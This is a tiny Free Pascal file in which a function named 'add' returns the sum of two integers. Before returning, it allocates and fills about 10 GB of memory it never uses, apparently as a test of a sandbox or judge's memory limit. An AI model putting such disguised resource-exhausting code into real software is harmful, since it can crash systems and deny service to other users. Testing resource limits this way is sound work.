{$mode objfpc}
function add(a, b: Integer): Integer;
var
  held: array[1..10] of PByte;
  i: Integer;
begin
  for i := 1 to 10 do
  begin
    GetMem(held[i], 1000000000);
    FillChar(held[i]^, 1000000000, 1);
  end;
  Result := a + b;
end;
